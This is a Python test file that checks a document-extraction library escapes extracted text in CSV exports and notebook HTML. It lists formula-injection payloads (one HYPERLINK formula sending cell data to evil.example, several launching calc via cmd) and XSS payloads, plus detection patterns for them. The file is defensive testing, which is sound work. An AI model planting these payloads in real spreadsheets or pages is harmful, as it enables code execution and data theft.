"""What a document says is only ever text where a result is shown or handed on: no formula, no markup, no escape."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

import pincite
from pincite.testing import document_from_pages

_SCHEMA = {"properties": {"remark": {"type": "string", "description": "Remark"}}}

_VALUES = {
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at sign": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula behind a space": " =1+1",
    "full-width equals sign": "＝1+1",
    "script": "<script>alert(1)</script>",
    "image handler": "<img src=x onerror=alert(1)>",
    "end of an attribute": '"><svg onload=alert(1)>',
    "link": '<a href="javascript:alert(1)">open</a>',
    "quotation marks": 'one","two","three',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
}


class _Tags(HTMLParser):
    """The tags and attributes of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen |= {tag, *(f"{name}={value}" for name, value in attrs)}


@pytest.fixture(scope="module")
def harmless(config) -> pincite.records.ExtractionResult:
    document = document_from_pages(["Remark: paid in full"], name="Remarks.pdf")
    return pincite.extract([document], _SCHEMA, config=config)


@pytest.fixture(scope="module", params=list(_VALUES))
def result(request, harmless: pincite.records.ExtractionResult) -> pincite.records.ExtractionResult:
    """A result whose field, source and failure have the hostile words wherever words of documents may stand."""
    words = _VALUES[request.param]
    (field,), (source,) = harmless.fields, harmless.sources
    (citation,) = field.citations
    spoilt = replace(citation, quote=words, note=words, segments=(replace(citation.segments[0], excerpt=words),))
    other = pincite.records.Conflict(value=words, display=words, citations=(spoilt,))
    named = replace(field, value=words, display=words, note=words, citations=(spoilt,), conflict=(other,))
    failure = pincite.records.Failure(item=words, code="damaged", message=words)
    return replace(harmless, fields=(named,), sources=(replace(source, name=words, file=words),), failures=(failure,))


def test_no_cell_of_a_table_is_a_formula(result: pincite.records.ExtractionResult) -> None:
    rows = list(csv.reader(io.StringIO(pincite.export(result, format="csv"), newline="")))
    assert len(rows) == 2
    assert len({len(row) for row in rows}) == 1
    assert [cell for cell in rows[1] if re.match(r"\s*[=+\-@\t\r＝＋－＠]", cell)] == []


def test_no_words_of_a_document_are_markup_in_a_notebook(result, harmless) -> None:
    expected = _Tags(harmless._repr_html_()).seen
    seen = _Tags(result._repr_html_()).seen | _Tags(result.fields[0]._repr_html_()).seen
    foreign = {one for one in seen - expected if re.search("script|svg|img|onerror|onload|^a$|href", one)}
    assert foreign == set()
